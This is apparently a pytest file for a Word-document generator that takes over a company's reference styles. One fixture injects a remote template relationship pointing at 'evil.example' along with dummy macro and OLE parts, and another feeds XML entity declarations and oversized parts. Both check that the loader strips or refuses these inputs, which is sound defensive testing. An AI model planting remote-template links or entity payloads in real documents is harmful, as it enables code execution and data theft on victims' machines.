"""Reference documents: a company's look is taken over, and nothing else of a hostile file."""

import zipfile
from io import BytesIO
from pathlib import Path

import docx
import pytest
from docx.shared import Cm, RGBColor

from qmsdocs.writers.word import reference as reference_module
from qmsdocs.writers.word.document import word_file
from qmsdocs.writers.word.readback import differences
from qmsdocs.writers.word.reference import BadReference, default_reference, load_reference
from tests.word_lint import lint
from tests.word_trees import png, rich_tree


def company(path: Path) -> Path:
    """A reference made in Word's manner: own colour, margins and a logo in the header."""
    document = docx.Document()
    document.styles["Heading 1"].font.color.rgb = RGBColor(0xAA, 0x11, 0x22)
    section = document.sections[0]
    section.left_margin = section.right_margin = Cm(2.5)
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.header.paragraphs[0].add_run().add_picture(BytesIO(png(80, 20)))
    document.add_paragraph("Confidential draft of somebody else")
    document.save(str(path))
    return path


def changed(path: Path, **parts: bytes) -> Path:
    """The package at `path` with parts replaced or added; `__` in a name stands for `/` and `_dot_` for a dot."""
    names = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    with zipfile.ZipFile(path) as source:
        contents = {name: source.read(name) for name in source.namelist()} | names
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in contents.items():
            target.writestr(name, content)
    return path


def test_company_look_is_taken_over(tmp_path: Path) -> None:
    """Colour of headings, margins and logo are the company's; styles that it lacks are ours; text of it is nowhere."""
    word = word_file(rich_tree(), load_reference(company(tmp_path / "house.docx").read_bytes()), program="x")
    with zipfile.ZipFile(BytesIO(word)) as package:
        styles, document = package.read("word/styles.xml").decode(), package.read("word/document.xml").decode()
        header = package.read("word/header1.xml").decode()
    assert "AA1122" in styles
    assert 'w:left="1417"' in document
    assert "r:embed" in header
    assert "QMS Table Text" in styles
    assert "somebody else" not in document
    assert lint(word) == []
    assert differences(word, rich_tree()) == []


def test_styles_are_found_by_name(tmp_path: Path) -> None:
    """In a Chinese Word the style "heading 1" has the id "1"; headings use it all the same."""
    path = company(tmp_path / "house.docx")
    with zipfile.ZipFile(path) as source:
        styles = source.read("word/styles.xml").replace(b'"Heading1"', b'"1"')
    look = load_reference(changed(path, word__styles_dot_xml=styles).read_bytes()).look("zh")
    assert look.styles["heading 1"] == "1"
    assert look.styles["toc 1"]


def test_automatic_numbers_of_the_company_are_dropped(tmp_path: Path) -> None:
    """We type the numbers of headings, so a numbered heading style would print two."""
    path = company(tmp_path / "house.docx")
    with zipfile.ZipFile(path) as source:
        styles = source.read("word/styles.xml")
    assert b"<w:numPr>" in styles
    word = word_file(rich_tree(), load_reference(path.read_bytes()), program="x")
    with zipfile.ZipFile(BytesIO(word)) as package:
        assert b"<w:numPr>" not in package.read("word/styles.xml")


def test_macros_objects_and_outside_links_stay_outside(tmp_path: Path) -> None:
    """Of macros, embedded objects and relationships to the outside nothing reaches our files."""
    path = company(tmp_path / "house.docx")
    with zipfile.ZipFile(path) as source:
        rels = source.read("word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="evil" TargetMode="External" Target="http://evil.example/a.dotm" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            b"</Relationships>",
        )
    changed(
        path,
        word___rels__document_dot_xml_dot_rels=rels,
        word__vbaProject_dot_bin=b"macro",
        word__embeddings__oleObject1_dot_bin=b"object",
    )
    word = word_file(rich_tree(), load_reference(path.read_bytes()), program="x")
    with zipfile.ZipFile(BytesIO(word)) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
        assert not [name for name in package.namelist() if name.endswith(".bin")]
    assert b"evil.example" not in everything


ENTITY = b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "boom">]>'
STYLES = b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&a;</w:styles>'


@pytest.mark.parametrize(
    ("styles", "message"),
    [
        (ENTITY + STYLES, "document type"),
        ((ENTITY + STYLES).decode().replace("1.0", "1.0").encode("utf-16"), "document type"),
        (b"<w:styles", "broken XML"),
        (b" " * (9 << 20), "larger than 8 MB"),
    ],
)
def test_hostile_styles_are_refused(tmp_path: Path, styles: bytes, message: str) -> None:
    """Entities in any encoding, broken XML and a part that unpacks too large are refused with what to do."""
    path = changed(company(tmp_path / "house.docx"), word__styles_dot_xml=styles)
    with pytest.raises(BadReference, match=message):
        load_reference(path.read_bytes())


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04broken", png()])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    """A file that is no package is refused with what to do."""
    with pytest.raises(BadReference, match=r"save it anew as Word document"):
        load_reference(content)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_packaged_reference_is_what_the_program_makes(language: str) -> None:
    """`python -m qmsdocs.writers.word.reference` makes the packaged file again, byte for byte."""
    packaged = Path(reference_module.__file__).with_name(f"reference.{language}.docx")
    with zipfile.ZipFile(packaged) as kept, zipfile.ZipFile(BytesIO(default_reference(language))) as made:
        assert kept.namelist() == made.namelist()
        assert all(kept.read(name) == made.read(name) for name in kept.namelist())


def test_east_asian_fonts_stand_apart() -> None:
    """Chinese letters have 宋体 and 黑体, Latin ones the font of the language, and no theme font takes over."""
    for language, latin in (("en", "Calibri"), ("zh", "Times New Roman")):
        with zipfile.ZipFile(BytesIO(default_reference(language))) as package:
            styles = package.read("word/styles.xml").decode()
        assert f'<w:rFonts w:ascii="{latin}" w:hAnsi="{latin}" w:eastAsia="宋体" w:cs="{latin}"/>' in styles
        assert 'w:eastAsia="黑体"' in styles
        assert "Theme=" not in styles
